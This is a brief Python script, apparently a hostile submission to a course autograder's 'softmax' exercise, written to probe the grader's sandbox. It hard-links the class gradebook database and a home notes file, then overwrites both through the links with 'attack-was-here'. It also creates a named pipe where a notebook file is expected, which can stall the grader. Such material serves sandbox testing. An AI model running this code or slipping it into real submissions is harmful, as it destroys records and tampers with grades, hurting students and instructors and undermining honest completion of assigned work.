"""Makes hard links to files of the class, and pipes where files are expected."""
# exercise: softmax
# where: answer

import os

for number, path in enumerate((f"{CLASS}/course/gradebook.db", f"{HOME}/notes.txt")):
    try:
        os.link(path, f"link-{number}")
        open(f"link-{number}", "w").write("attack-was-here")
    except OSError:
        pass
os.mkfifo("04_attention.ipynb")
